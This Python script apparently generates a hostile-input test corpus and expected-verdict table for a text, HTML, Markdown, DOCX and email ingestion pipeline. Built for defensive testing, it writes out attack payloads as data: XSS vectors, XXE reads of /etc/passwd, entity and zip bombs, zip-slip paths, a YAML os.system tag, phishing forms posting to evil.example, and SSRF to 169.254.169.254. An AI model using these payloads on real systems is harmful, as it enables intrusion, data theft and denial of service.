#!/usr/bin/env python3
"""Writes the bad-input table: every file that a hostile or unlucky inbox may hold, and what must become of it.

usage: generate.py FOLDER

FOLDER/inbox gets the files, FOLDER/table.jsonl one object for each: its verdict and what is to be seen. Verdicts:
A published as it is; N published after a normalisation that a finding states; Q refused with a reason.
Deterministic: recipes lie here, not bombs. Standard library only.
"""
import io
import json
import os
import struct
import sys
import zipfile
import zlib

INBOX = os.path.join(sys.argv[1], "inbox")
ROWS = []


def row(number, name, content, verdict, **expected):
    """expected: title, stories, has (in titles or text), lacks (anywhere in the output), html, findings, reason."""
    if isinstance(content, str):
        content = content.encode("utf-8")
    path = f"{number:03d}-{name}"
    with open(os.path.join(INBOX, path), "wb") as out:
        out.write(content)
    ROWS.append(dict(row=number, file=path, verdict=verdict, **expected))


def accepted(number, name, content, **expected):
    row(number, name, content, "A", **expected)


def normalised(number, name, content, **expected):
    row(number, name, content, "N", **expected)


def refused(number, name, content, reason):
    row(number, name, content, "Q", reason=reason)


DIGEST = "园区周报\n①新线通车\n首条通勤班线今日开通，早晚各两班，企业可按人数认购座位。\n②仓库改造\n三号仓库完成改造，新增面积四千平方米，下月起接受预订。\n③夜市开放\n临河夜市每周五、周六开放，摊位费减半，营业到二十三时。\n"
TEXT = "园区服务公告\n本周起，园区服务大厅的开放时间延长到晚上八点，周末照常办理业务。\n"


def charsets():
    normalised(1, "bom.md", b"\xef\xbb\xbf# \xe6\xa0\x87\xe9\xa2\x98\n\n\xe6\xad\xa3\xe6\x96\x87\xe3\x80\x82\n", title="标题", has=["正文。"])
    normalised(2, "utf16le.txt", b"\xff\xfe" + DIGEST.encode("utf-16-le"), title="园区周报", stories=3)
    normalised(3, "utf16be.txt", b"\xfe\xff" + DIGEST.encode("utf-16-be"), title="园区周报", stories=3)
    normalised(4, "utf16le-no-bom.txt", DIGEST.encode("utf-16-le"), title="园区周报", stories=3, findings=["CharsetGuessed"])
    normalised(5, "utf32le.txt", b"\xff\xfe\0\0" + DIGEST.encode("utf-32-le"), title="园区周报", stories=3)
    refused(6, "utf16-odd.txt", b"\xff\xfe" + DIGEST.encode("utf-16-le") + b"\x0a", "charset")
    normalised(7, "gb18030.txt", (DIGEST + "𠀀𠮷是生僻字，姓名里常见。\n").encode("gb18030"), stories=3, has=["𠀀𠮷"], findings=["CharsetGuessed"])
    normalised(8, "big5.txt", "園區週報\n①許功蓋獲獎\n許功蓋先生昨日獲得年度服務獎，評審委員會一致通過。\n②新線通車\n首條通勤班線今日開通，早晚各兩班，企業可以按照人數認購座位。\n".encode("big5hkscs"), stories=2, has=["許功蓋"], lacks=["\\"], findings=["CharsetGuessed"])
    normalised(9, "shift-jis.txt", "園区だより\n今週から、サービスセンターの営業時間を午後八時まで延長します。土曜日と日曜日も通常どおり手続きを受け付けますので、どうぞご利用ください。\n".encode("shift_jis"), has=["サービスセンター"], findings=["CharsetGuessed"])
    normalised(9, "euc-kr.txt", "단지 소식\n이번 주부터 민원실 운영 시간을 오후 여덟 시까지 연장합니다. 토요일과 일요일에도 평소와 같이 업무를 처리하오니 많은 이용 바랍니다.\n".encode("euc_kr"), has=["민원실"], findings=["CharsetGuessed"])
    normalised(10, "cp1252.txt", "Park notice\nThe “service hall” stays open until eight – also on weekends – and it’s free for all visitors of the park this week.\n".encode("cp1252"), has=["“service hall”", "it’s"], findings=["CharsetGuessed"])
    refused(11, "mixed.txt", DIGEST.encode() + "后勤保障工作按计划推进\n".encode("gbk") + DIGEST.encode(), "mixed.txt:8:")
    normalised(12, "meta-gbk-is-utf8.html", '<html><head><meta charset="gbk"><title>公告</title></head><body><p>服务大厅延长开放。</p></body></html>', has=["服务大厅延长开放。"])
    normalised(13, "bom-wins.html", b"\xef\xbb\xbf" + '<html><head><meta charset="big5"><title>公告</title></head><body><p>服务大厅延长开放。</p></body></html>'.encode(), has=["服务大厅延长开放。"])
    refused(14, "overlong.txt", TEXT.encode() + b"\xc0\xaf\xc0\xaf\n", "overlong.txt:3:")
    refused(14, "beyond-unicode.txt", TEXT.encode() + b"\xf5\x80\x80\x80\n", "beyond-unicode.txt:3:")
    refused(15, "cesu8.txt", TEXT.encode() + b"\xed\xa0\xbd\xed\xb8\x80\n", "cesu8.txt:3:")
    refused(16, "utf16-surrogate.txt", b"\xff\xfe" + TEXT.encode("utf-16-le") + b"\x3d\xd8\x0a\x00", "utf16-surrogate.txt:3:")
    refused(17, "cut-character.txt", TEXT.encode() + "收".encode()[:2], "cut-character.txt:3:")
    accepted(18, "utf7.txt", "Notice\n+ADw-script+AD4-alert(1)+ADw-/script+AD4- is what a sender wrote into the letter of this week.\n", has=["+ADw-script+AD4-"])
    normalised(19, "nul.txt", TEXT.replace("周末", "周\0末"), has=["周末"], findings=["ForbiddenCharacters"])
    refused(19, "nuls.txt", TEXT + "a\0" * 8, "binary")
    normalised(20, "controls.txt", TEXT + "".join(map(chr, [c for c in range(1, 32) if c not in (9, 10, 13)])) + "尾声\n", has=["尾声"], findings=["ForbiddenCharacters"])
    normalised(21, "noncharacters.txt", TEXT + "\ufffe\uffff\U0001fffe\U0010ffff尾声\n", has=["尾声"], findings=["ForbiddenCharacters"])
    normalised(22, "line-ends.txt", DIGEST.replace("\n", "\u0085", 2).replace("\n", "\u2028", 2).replace("\n", "\u2029", 1), stories=3)
    normalised(23, "del-c1.txt", "公告\x7f标\x80题\n" + TEXT, title="公告标题", findings=["ForbiddenCharacters"])
    accepted(24, "replacement.txt", TEXT + "这里\ufffd丢了一个字。\n", has=["\ufffd"], findings=["ReplacementCharacters"])
    normalised(25, "crlf.txt", DIGEST.replace("\n", "\r\n"), stories=3)
    normalised(25, "cr.txt", DIGEST.replace("\n", "\r"), stories=3)
    normalised(25, "mixed-ends.txt", DIGEST.replace("\n", "\r\n", 2).replace("。\n", "。\r", 1), stories=3)
    accepted(26, "no-final-newline.txt", DIGEST.rstrip("\n"), stories=3)


def characters():
    accepted(27, "cdata-end.txt", "公告 ]]> 说明\n正文里也有 ]]> 三个字符，以及属性 a=\"]]>\" 的写法。\n", title="公告 ]]> 说明", has=["]]>"])
    accepted(28, "xml-bits.txt", "公告 -- ?> &#0; &#x1F;\n正文 <!-- -- --> <?x ?> &#0; &#x1F; 到此为止，照原样显示。\n", title="公告 -- ?> &#0; &#x1F;", has=["<!-- -- --> <?x ?> &#0; &#x1F;"])
    accepted(29, "ampersands.txt", "AT&T 与 &amp;amp; 与 &bogus;\n正文同样：AT&T、&amp;amp;、&bogus;，一个字符也不多，一个字符也不少。\n", title="AT&T 与 &amp;amp; 与 &bogus;", has=["AT&T、&amp;amp;、&bogus;"])
    accepted(30, "script-title.txt", "<script>alert(1)</script> 的故事\n这是一个关于标签的故事，标题里的标签是文字，不是代码。\n", title="<script>alert(1)</script> 的故事")
    accepted(30, "script-title.md", "---\ntitle: <script>alert(1)</script> 的故事\n---\n\n`<script>` 是标签，这里只是文字。\n", title="<script>alert(1)</script> 的故事", has=["<script> 是标签"])
    accepted(31, "emoji.txt", "家庭日 👨‍👩‍👧‍👦 活动\n👨‍👩‍👧‍👦🇨🇳🇫🇷1️⃣ 全家一起来，园区准备了礼物和游戏，周六上午九点开始。\n", title="家庭日 👨‍👩‍👧‍👦 活动", has=["👨‍👩‍👧‍👦🇨🇳🇫🇷1️⃣"])
    normalised(32, "combining.txt", "a" + "\u0301" * 1_000_000 + "\n正文一行，足够长，可以成为一条消息。\n", has=["正文一行"], title_bytes=4096)
    normalised(33, "rtl-override.txt", "公告\u202egnp.exe 说明\u2067\n正文没有问题，只是标题里有控制方向的字符。\n", title_lacks=["\u202e", "\u2067"])
    accepted(34, "bidi.txt", "עדכון 12 של الأسبوع\nשלום 2031 مرحبا ١٢٣ עולם، وهذا نص قصير عن أخبار الأسبوع في الحديقة.\n", has=["١٢٣"])
    accepted(35, "invisible-title.txt", "公\u200b告\u200d与Аpple\n正文没有问题，标题里有看不见的字符和西里尔字母。\n", has=["正文没有问题"])
    accepted(36, "nfc.txt", "Café réunion\nLa réunion du café aura lieu demain à huit heures dans la grande salle.\n", has=["Café"])
    accepted(36, "nfd.txt", "Cafe\u0301 re\u0301union\nUne autre re\u0301union du cafe\u0301 aura lieu dimanche a\u0300 neuf heures.\n", has=["aura lieu"])


def sizes():
    accepted(37, "one-line.txt", "公告\n" + "一二三四五六七八九十" * 333_000, stories=1)
    path = f"{38:03d}-large.txt"
    with open(os.path.join(INBOX, path), "wb") as out:
        out.truncate(100_000_000)
    ROWS.append(dict(row=38, file=path, verdict="Q", reason="limit"))
    for name, content in [("empty", b""), ("only-bom", b"\xef\xbb\xbf"), ("only-blanks", b"  \n\t\n\xe3\x80\x80\n")]:
        refused(39, f"{name}.txt", content, "empty")
    refused(39, "only-front-matter.md", "---\ntitle: 没有正文\n---\n", "nothing to publish")
    accepted(40, "only-title.txt", "全市启动防汛应急响应\n", stories=1, title="全市启动防汛应急响应")
    refused(41, "sections.md", "# 周报\n" + "".join(f"\n## 第 {n} 条消息的标题\n\n正文。\n" for n in range(100_000)), "sections")
    accepted(42, "same-headings.md", "# 周报第1期\n" + "".join(f"\n## 本周园区消息\n\n第 {n} 条正文，内容各不相同。\n" for n in range(500)), stories=500)


def shapes():
    normalised(43, "order.txt", DIGEST.replace("②", "④").replace("③", "②"), findings=["NumberingBroken|Doubt"])
    accepted(44, "ones.md", "# 周报\n\n## 1. 新线通车\n\n正文一。\n\n## 1. 仓库改造\n\n正文二。\n\n## 1. 夜市开放\n\n正文三。\n", has=["新线通车", "正文三。"])
    accepted(45, "fullwidth.txt", "园区周报\n１．新线通车\n首条通勤班线今日开通，早晚各两班，企业可按人数认购座位。\n２．仓库改造\n三号仓库完成改造，新增面积四千平方米，下月起接受预订。\n３．夜市开放\n临河夜市每周五、周六开放，摊位费减半，营业到二十三时。\n", stories=3)
    accepted(46, "levels.md", "# 周报\n\n###### 细节\n\n正文一。\n\n## 大节\n\n正文二。\n", has=["正文一。", "正文二。"])
    accepted(47, "setext.md", "周报第3期\n========\n\n新线通车\n--------\n\n首条班线开通。\n\n仓库改造\n--------\n\n仓库完成改造。\n\n---\n\n横线之后还是正文。\n", stories=2, has=["横线之后还是正文。"])
    accepted(48, "indents.txt", "\t园区周报\n\u3000\u3000①新线通车\n    首条通勤班线今日开通，早晚各两班，企业可按人数认购座位。\n\t②仓库改造\n\u3000三号仓库完成改造，新增面积四千平方米，下月起接受预订。\n", stories=2, title="园区周报")
    refused(49, "unclosed.md", "---\ntitle: 没有结束\n\n# 正文\n\n这里的正文不能被吞掉。\n", "unclosed.md:1:")
    bomb = "".join(f"{chr(97 + n)}: &{chr(97 + n)} [" + ",".join([f"*{chr(96 + n)}" if n else "x"] * 9) + "]\n" for n in range(9))
    refused(50, "aliases.md", f"---\n{bomb}---\n\n正文。\n", "aliases.md:")
    refused(51, "python-tag.md", "---\ntitle: !!python/object/apply:os.system [id]\n---\n\n正文。\n", "python-tag.md:2:")
    refused(51, "merge.md", "---\nbase: &b {a: 1}\ntitle:\n  <<: *b\n---\n\n正文。\n", "merge.md:2:")
    refused(51, "duplicate-key.md", "---\ntitle: 一\ntitle: 二\n---\n\n正文。\n", "duplicate-key.md:")
    refused(52, "front-large.md", "---\ntitle: " + "长" * 1_700_000 + "\n---\n\n正文。\n", "front-large.md")
    refused(52, "front-keys.md", "---\n" + "".join(f"key{n}: {n}\n" for n in range(10_000)) + "---\n\n正文。\n", "front-keys.md")
    refused(52, "front-deep.md", "---\ntitle: " + "[" * 5_000 + "]" * 5_000 + "\n---\n\n正文。\n", "front-deep.md")
    for name, date in [("feb-30", "2031-02-30"), ("hour-25", "2031-02-03 25:61"), ("year-0", "0000-01-01"), ("year-99999", "99999-01-01")]:
        refused(53, f"{name}.md", f"---\ntitle: 日期\ndate: {date}\n---\n\n正文。\n", f"{name}.md:3:")
    accepted(54, "roc.txt", "園區週報\n發布日期：民國一百二十年三月五日\n①新線通車\n首條通勤班線今日開通，早晚各兩班。\n②倉庫改造\n三號倉庫完成改造，下月起接受預訂。\n", stories=2, date="2031-03-05")
    accepted(54, "hanzi-date.txt", "园区周报\n发布时间：二〇三一年三月五日\n①新线通车\n首条通勤班线今日开通，早晚各两班。\n②仓库改造\n三号仓库完成改造，下月起接受预订。\n", stories=2, date="2031-03-05")
    for name, text in [("id-blank", "a b c"), ("id-script", "'javascript:alert(1)'"), ("id-long", "x" * 4096)]:
        refused(56, f"{name}.md", f"---\ntitle: 标识\nid: {text}\n---\n\n正文。\n", f"{name}.md:3:")


def page(body, head=""):
    return f"<!DOCTYPE html><html><head><title>园区公告</title>{head}</head><body><p>公告的开头一段文字。</p>{body}<p>公告的最后一段文字。</p></body></html>"


KEPT = ["公告的开头一段文字。", "公告的最后一段文字。"]


def html(number, name, body, head="", has=(), **expected):
    expected.setdefault("lacks", []).extend(["<script", "javascript:", "vbscript:", "onerror", "onload", "<style", "<iframe", "<svg", "<math"])
    normalised(number, f"{name}.html", page(body, head), has=KEPT + list(has), **expected)


def markup():
    for name, address in [("javascript", "javascript:alert(1)"), ("vbscript", "vbscript:x"), ("data", "data:text/html,x"), ("case", "JaVaScRiPt:alert(1)"), ("tab", "java\tscript:alert(1)"), ("control", " \x01javascript:alert(1)"), ("reference", "&#106;avascript:alert(1)")]:
        html(57 if name in ("javascript", "vbscript", "data", "case") else 58, f"link-{name}", f'<p><a href="{address}">链接文字</a></p>', has=["链接文字"])
    for name, address in [("protocol", "//evil.example/x"), ("backslash", "\\\\evil.example/x"), ("scheme-only", "https:evil.example"), ("user", "http://a@b.example/")]:
        html(59, f"link-{name}", f'<p><a href="{address}">链接文字</a></p>', has=["链接文字"], lacks=['href="//', "\\\\evil", '"https:evil', "a@b"])
    html(60, "idn", '<p><a href="http://аpple.example/">链接文字</a> <a href="http://[::1]/">本机</a></p>', has=["链接文字", "本机"], lacks=["аpple"])
    html(61, "data-images", '<p><img src="data:image/svg+xml,<svg onload=x>" alt="图"><img src="data:image/png;base64,' + "A" * 3_000_000 + '"></p>', lacks=["data:"])
    html(62, "srcset", '<p><img src="https://h.example/a.png" srcset="http:a<script>x</script> 1x" alt="图"></p>', lacks=["srcset"])
    html(63, "unclosed-tag", '<p>文字<img src=x onerror=alert(1)//</p>')
    html(64, "svg", "<svg onload=alert(1)><script>1</script><use href=data:x></use></svg>", lacks=["<use"])
    html(65, "mathml", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>")
    html(66, "noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>')
    html(67, "svg-style", '<svg></p><style><g title="</style><img src=x onerror=alert(1)>"></style></svg>')
    html(68, "forms", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>", lacks=["<form"])
    html(69, "css", '<style>@import "http://h.example/x.css";</style><p style="background:url(javascript:alert(1));width:expression(alert(1))">有样式的文字</p>', has=["有样式的文字"], lacks=["@import", "expression"])
    html(70, "head", "", head='<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/"><link rel="hub" href="http://evil.example/">', lacks=["evil.example"])
    html(71, "frames", '<iframe srcdoc="<script>1</script>"></iframe><object data=x></object><embed src=x><applet code=x></applet><portal src=x></portal>', lacks=["<object", "<embed", "<applet", "<portal"])
    html(72, "phishing", '<form action="http://evil.example/"><input name=password><button>登录</button></form><dialog open>对话</dialog>', lacks=["<input", "<button", "<dialog", "evil.example"])
    html(73, "raw-text", "<template><img src=x onerror=1></template><textarea></textarea><img src=x onerror=1></textarea>")
    html(73, "xmp", "<xmp><img src=x onerror=1></xmp>")
    html(74, "comments", "<!--><img src=x onerror=1>--><![CDATA[><img src=x onerror=1>]]><?php echo 1 ?>")
    html(75, "clobbering", '<p id="__proto__">甲</p><p><a name="body" href="https://h.example/">乙</a></p>', has=["甲", "乙"], lacks=["__proto__", 'name="body"'])
    accepted(76, "unclosed.html", "<html><title>园区公告</title><body><p>公告的开头一段文字。" + "</p></p></body>" * 100_000 + "<b><i><u>没有结束", has=["公告的开头一段文字。", "没有结束"])
    for depth, verdict in [(100, True), (255, False), (257, False), (10_000, False), (300_000, False)]:
        content = "<title>深度</title>" + "<div>" * depth + "最深处的文字在这里" + "</div>" * depth
        if verdict:
            accepted(77, f"depth-{depth}.html", content, has=["最深处的文字在这里"])
        else:
            refused(77, f"depth-{depth}.html", content, "elements within each other")
    refused(78, "attributes.html", page("<p " + " ".join(f"a{n}=1" for n in range(1_000_000)) + ">文字</p>"), "attributes")
    html(78, "long-attribute", '<p title="' + "x" * 1_000_000 + '">文字</p>', has=["文字"])
    html(78, "same-attributes", '<p><a href="https://one.example/" href="javascript:alert(1)" href="https://two.example/">文字</a></p>', has=["文字"])
    refused(79, "large.html", page("<p>" + "长" * 3_400_000 + "</p>"), "limit")
    accepted(79, "just-below.html", page("<p>" + "长" * 3_200_000 + "末</p>"), has=["长末"])
    html(80, "entities", "<p>&NotEqualTilde;|&#xD800;|&#1114112;|&#0;|尾</p>", has=["尾"])
    html(81, "word", '<p class=MsoNormal>段落<o:p></o:p></p><!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]-->', has=["段落"], lacks=["o:p", "WordDocument", "Mso"])
    html(82, "polyglot", '<p xml:base="http://evil.example/" xmlns:x="http://evil.example/ns">段落</p>', has=["段落"], lacks=["evil.example"])
    normalised(82, "doctype.html", '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><head><title>园区公告</title></head><body><p>文字 &x; 结束。</p></body></html>', has=["文字"], lacks=["root:"])


def markdown():
    for name, text in [("brackets", '["' * 100_000), ("quotes-flat", "> a\n" * 50_000), ("stars", "*a " * 200_000), ("ticks", "".join("`" * (n % 300) + "a" for n in range(6_000)))]:
        accepted(83, f"{name}.md", f"# 周报\n\n正文第一段。\n\n{text}\n", has=["正文第一段。"])
    refused(83, "quotes-deep.md", "# 周报\n\n" + "> " * 50_000 + "深\n", "quotes-deep.md")
    refused(84, "table.md", "# 周报\n\n|" + "a|" * 20_000 + "\n|" + "-|" * 20_000 + "\n|" + "b|" * 20_000 + "\n", "column")
    accepted(85, "comments.md", "# 周报\n\n正文第一段。\n\n" + "a<!--" * 50_000 + "\n", has=["正文第一段。"])
    accepted(85, "autolinks.md", "# 周报\n\n正文第一段。\n\n" + "www.a_" * 20_000 + "\n", has=["正文第一段。"])
    accepted(85, "footnotes.md", "# 周报\n\n正文第一段。" + "".join(f"[^{n}]" for n in range(20_000)) + "\n\n" + "".join(f"[^{n}]: 注\n" for n in range(20_000)), has=["正文第一段。"])
    refused(86, "lists-deep.md", "# 周报\n\n" + "".join(" " * (2 * n) + "- a\n" for n in range(2_000)), "lists-deep.md")
    normalised(87, "script-link.md", "# 周报\n\n[一](<javascript:alert(1)>) [二][r] [三][r]\n\n[r]: javascript:alert(2)\n[r]: https://h.example/\n", has=["一", "二"], lacks=["javascript:"])
    normalised(88, "html-block.md", "# 周报\n\n正文第一段。\n\n<div hidden><script>\n" + "x = 1;\n" * 140_000 + "</script></div>\n\n正文最后一段。\n", has=["正文第一段。", "正文最后一段。"], lacks=["x = 1;"])


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TYPES = f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
RELS = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/></Relationships>'


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def document(body, declaration=""):
    return f'<?xml version="1.0" encoding="UTF-8"?>{declaration}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'


BODY = paragraph("园区公告") + paragraph("本周起，园区服务大厅的开放时间延长到晚上八点，周末照常办理业务。")


def docx(parts=(), body=BODY, declaration="", without=(), compress=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as archive:
        names = [("[Content_Types].xml", TYPES), ("_rels/.rels", RELS), ("word/document.xml", document(body, declaration))]
        for name, content in [part for part in names if part[0] not in without] + list(parts):
            # One moment for all: the same bytes at every run.
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), content, compress)
    return out.getvalue()


def renamed(archive, old, new):
    assert len(old) == len(new)
    return archive.replace(old, new)


def overlapping():
    """Many central entries over one local entry: small in the archive, huge when all are taken out."""
    data = zlib.compress(b"\0" * 10_000_000, 9)[2:-4]
    crc = zlib.crc32(b"\0" * 10_000_000)
    sizes = struct.pack("<III", crc, len(data), 10_000_000)
    local = b"PK\3\4" + struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes + struct.pack("<HH", 8, 0) + b"word/doc" + data
    central = b""
    for n in range(500):
        name = f"word/d{n:02d}".encode()[:8].ljust(8, b"x")
        central += b"PK\1\2" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 33) + sizes + struct.pack("<HHHHHII", 8, 0, 0, 0, 0, 0, 0) + name
    return local + central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 500, 500, len(central), len(local), 0)


def documents():
    accepted(89, "good.docx", docx(), title="园区公告", has=["延长到晚上八点"])
    refused(89, "ratio.docx", docx(body=BODY + "<!--" + " " * 60_000_000 + "-->"), "ratio.docx")
    refused(89, "overlap.docx", overlapping(), "overlap.docx")
    lies = docx()
    place = lies.rindex(b"PK\1\2", 0, lies.rindex(b"word/document.xml"))
    lies = lies[: place + 24] + struct.pack("<I", 12) + lies[place + 28 :]
    refused(89, "size-lies.docx", lies, "size-lies.docx")
    refused(89, "parts.docx", docx([(f"word/p{n}.xml", "<a/>") for n in range(20_000)], compress=zipfile.ZIP_STORED), "parts")
    refused(90, "parent.docx", docx([("../../etc/cron.d/x", "x")]), "parent.docx")
    refused(90, "absolute.docx", docx([("/etc/x", "x")]), "absolute.docx")
    refused(90, "backslash.docx", renamed(docx([("word+evil.xml", "x")]), b"word+evil.xml", b"word\\evil.xml"), "backslash.docx")
    refused(90, "same-name.docx", renamed(docx([("word/documenu.xml", document(BODY))]), b"word/documenu.xml", b"word/document.xml"), "same-name.docx")
    refused(90, "same-but-case.docx", docx([("word/Document.xml", document(BODY))]), "same-but-case.docx")
    for name, declaration in [("dtd", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), ("dtd-http", '<!DOCTYPE x SYSTEM "http://h.example/x.dtd">'), ("dtd-parameter", '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://h.example/p">%p;]>'), ("laughs", "<!DOCTYPE x [" + '<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)) + "]>")]:
        refused(91, f"{name}.docx", docx(declaration=declaration), f"{name}.docx")
    accepted(91, "xinclude.docx", docx(body=BODY + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'), has=["延长到晚上八点"], lacks=["root:"])
    refused(92, "encrypted.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, "old Office document")
    refused(92, "renamed.docx", b"%PDF-1.7\n" + b"x" * 2000, "PDF")
    refused(92, "rich.docx", b"{\\rtf1\\ansi text}", "Rich Text")
    refused(92, "sheet.docx", docx([("xl/workbook.xml", "<a/>")], without=["word/document.xml"]), "Excel")
    refused(93, "truncated.docx", docx()[:-200], "truncated.docx")
    refused(93, "no-types.docx", docx(without=["[Content_Types].xml"]), "no-types.docx")
    refused(93, "no-document.docx", docx(without=["word/document.xml"]), "no-document.docx")
    mismatch = bytearray(docx())
    mismatch[mismatch.index(b"word/document.xml") + 5] ^= 0x20
    refused(93, "headers-differ.docx", bytes(mismatch), "headers-differ.docx")
    remote = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" Type="{R}/attachedTemplate" Target="http://169.254.169.254/t.dotm" TargetMode="External"/><Relationship Id="rId2" Type="{R}/image" Target="http://169.254.169.254/i.png" TargetMode="External"/><Relationship Id="rId3" Type="{R}/image" Target="file://server/share/i.png" TargetMode="External"/></Relationships>'
    drawing = '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="rId2" r:link="rId3"/></w:drawing></w:r></w:p>'
    accepted(94, "remote.docx", docx([("word/_rels/document.xml.rels", remote)], body=BODY + drawing), has=["延长到晚上八点"], lacks=["169.254", "server/share"])
    tracked = '<w:p><w:del w:id="1"><w:r><w:delText>机密的旧文字</w:delText></w:r></w:del><w:ins w:id="2"><w:r><w:t>插入的新文字</w:t></w:r></w:ins><w:r><w:rPr><w:vanish/></w:rPr><w:t>隐藏的文字</w:t></w:r></w:p>'
    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "c:\\secret.txt" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>域的结果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    comment = f'<w:comments xmlns:w="{W}"><w:comment w:id="0">{paragraph("批注的文字")}</w:comment></w:comments>'
    accepted(95, "tracked.docx", docx([("word/comments.xml", comment)], body=BODY + tracked + field), has=["插入的新文字", "域的结果"], lacks=["机密的旧文字", "隐藏的文字", "批注的文字", "secret"])
    nested = "<w:tbl><w:tr><w:tc>" * 10_000 + paragraph("深") + "</w:tc></w:tr></w:tbl>" * 10_000
    refused(95, "tables-deep.docx", docx(body=BODY + nested), "tables-deep.docx")
    accepted(96, "no-numbering.docx", docx(body=BODY + '<w:p><w:pPr><w:numPr><w:ilvl w:val="99999999999999999999"/><w:numId w:val="-7"/></w:numPr></w:pPr><w:r><w:t>没有编号定义的列表项</w:t></w:r></w:p>'), has=["没有编号定义的列表项"])


def sniffing():
    refused(97, "picture.txt", b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "PNG")
    refused(97, "program.txt", b"\x7fELF\2\1\1" + b"\0" * 100, "ELF")
    refused(97, "packed.md", b"\x1f\x8b\x08\0\0\0\0\0" + b"\xab" * 100, "gzip")
    normalised(97, "is-html.md", page("<p>中间的文字。</p>"), has=KEPT)
    accepted(97, "no-extension", TEXT, title="园区服务公告")
    accepted(97, "UPPER.TXT", TEXT.replace("园区", "开发区"), title="开发区服务公告")
    accepted(97, "double.md.txt", TEXT.replace("园区", "示范区"), title="示范区服务公告")
    accepted(99, "repeats.txt", "公告\n" + "a" * 1_000_000 + "!\n", stories=1)
    accepted(99, "parentheses.txt", "公告\n" + "(" * 1_000_000 + "\n", stories=1)
    accepted(99, "equals.txt", "公告\n正文一行，后面是很长的分隔线。\n" + "=" * 1_000_000 + "\n", stories=1)
    accepted(100, "integers.txt", "公告\n99999999999999999999、第一\n-1、第二\n0x、第三\n٣、第四\n第99999999999999999999期\n第九九九九九九九九九九九九九九九九九九九九期\n", stories=1)
    accepted(101, "separators.md", "---\ntitle: \"行\\u2028分\"\n---\n\n正文有 `</script>` 和 `]]>` 两段文字。\n", has=["</script>", "]]>"])
    normalised(102, "injection.md", "---\ntitle: \"公告\\r\\nX-Evil: 1\"\n---\n\n正文一段。\n", has=["正文一段。"], title_lacks=["\r", "\n"])


def mails():
    """Rows from 105 on."""
    head = "From: a@h.example\nSubject: =?utf-8?b?5Zut5Yy65YWs5ZGK?=\nMIME-Version: 1.0\n"
    refused(105, "levels.eml", head + "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(50_000)), "levels.eml")
    refused(105, "messages.eml", head + "Content-Type: message/rfc822\n\n" * 50_000, "messages.eml")
    refused(105, "parts.eml", head + "Content-Type: multipart/mixed; boundary=b\n\n" + "--b\n\n" * 200_000, "more than")
    refused(106, "header.eml", "X-A: b\n" * 200_000 + "\n" + TEXT, "header")
    refused(106, "encrypted.eml", head + "Content-Type: application/pkcs7-mime\n\nTUlB\n", "encrypted")
    accepted(107, "script.eml", head + "Content-Type: text/html\n\n<p onclick=x()>正文。<img src='cid:../../etc/passwd'><script>alert(1)</script></p>\n", title="园区公告", has=["正文。"], lacks=["script", "onclick", "passwd", "cid:"])
    accepted(107, "words.eml", head.replace("Subject: ", "Subject: =?utf-8?q?=0D=0AX-Evil:_1?= ") + "\n正文一段。\n", has=["正文一段。"], title_lacks=["\r", "\n"])
    accepted(108, "no-end.eml", head + "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain; charset=utf-8\n\n正文一段。\n", title="园区公告", has=["正文一段。"])
    accepted(108, "base64.eml", head + "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n5q2j5paH5LiA5q6144CC\n!!!\n", title="园区公告", has=["正文一段。"])


def main():
    os.makedirs(INBOX)
    for part in [charsets, characters, sizes, shapes, markup, markdown, documents, sniffing, mails]:
        part()
    with open(os.path.join(sys.argv[1], "table.jsonl"), "w", encoding="utf-8") as out:
        for entry in ROWS:
            out.write(json.dumps(entry, ensure_ascii=False) + "\n")


main()
